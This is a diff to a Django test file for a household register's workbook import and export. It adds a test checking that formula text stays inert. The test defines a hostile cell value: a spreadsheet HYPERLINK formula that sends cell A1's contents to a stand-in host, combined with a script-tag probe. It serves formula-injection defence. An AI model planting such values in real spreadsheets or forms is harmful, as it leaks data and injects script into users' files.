@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from datetime import date
-from typing import TYPE_CHECKING
+from pathlib import Path
 
 import openpyxl
 import pytest
@@ -11,14 +11,12 @@ from django.core.management import call_command
 
 from county import areas, household, households, person, write
 from tuopin.platform.access import actor_for, local_admin
+from tuopin.platform.catalogue import workbook_kinds
 from tuopin.platform.models import Grant, User
 from tuopin.platform.problems import Problem
 from tuopin.register.exporting import export_workbook
 from tuopin.register.importing.services import import_paths
 from tuopin.register.models import AreaVersion, Household
-
-if TYPE_CHECKING:
-    from pathlib import Path
 
 pytestmark = pytest.mark.django_db(transaction=True)
 DAY = date(2018, 12, 1)
@@ -135,3 +133,39 @@ def test_classes_of_fields_that_are_not_open_over_the_place_stay_out(tmp_path: P
     east_code = AreaVersion.objects.get(name="东乡").code
     export_workbook(actor_for(clerk), path, kind="household_person", on=DAY, area_code=east_code)
     assert "健康状况" in columns(path)
+
+
+HOSTILE = '=HYPERLINK("http://x.invalid/"&A1,"<script>alert(1)</script>")'
+
+
+def formulas(path: Path) -> list[str]:
+    """The cells of a workbook that a spreadsheet would work out; at least one cell must hold the hostile text."""
+    book = openpyxl.load_workbook(path)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    book.close()
+    assert any(HOSTILE[:10] in str(cell.value) for cell in cells), path.name
+    return [cell.coordinate for cell in cells if cell.data_type == "f"]
+
+
+def test_a_formula_in_any_cell_is_text_in_every_workbook(tmp_path: Path) -> None:
+    """Every column of the national form is filled with it; what is not taken is written into the reject workbook."""
+    kind = workbook_kinds()["household_person"]
+    places = {"city", "county", "township", "village"}
+    texts = {field.titles[0]: HOSTILE for field in kind.fields if field.type == "text" and field.name not in places}
+    known = {"户编号", "人编号", "县", "镇", "村", "证件号码", "脱贫属性", "与户主关系"}
+    hostile = {title: text for title, text in texts.items() if title not in known}
+    assert {"户主姓名", "姓名"} <= set(hostile)
+    sound = household("9901", person("990101", **{k: v for k, v in hostile.items() if k == "姓名"}), **{
+        k: v for k, v in hostile.items() if k != "姓名"})  # fmt: skip
+    refused = household("9902", person("990201", 姓名=HOSTILE), 村=HOSTILE)
+    check = {"户编号": "9901", "户主姓名": HOSTILE, "不愁吃": "是", "核查日期": "2018-11-20", "核查人": HOSTILE}
+    areas(tmp_path)
+    households(tmp_path, sound, refused)
+    write(tmp_path / "核查.csv", [check])
+    report = import_paths(local_admin(), [tmp_path])
+    for name in ("household_person", "household_check"):
+        path = tmp_path / f"{name}.xlsx"
+        export_workbook(local_admin(), path, kind=name, on=DAY)
+        assert formulas(path) == []
+    [rejects] = report.reject_workbooks
+    assert formulas(Path(rejects)) == []
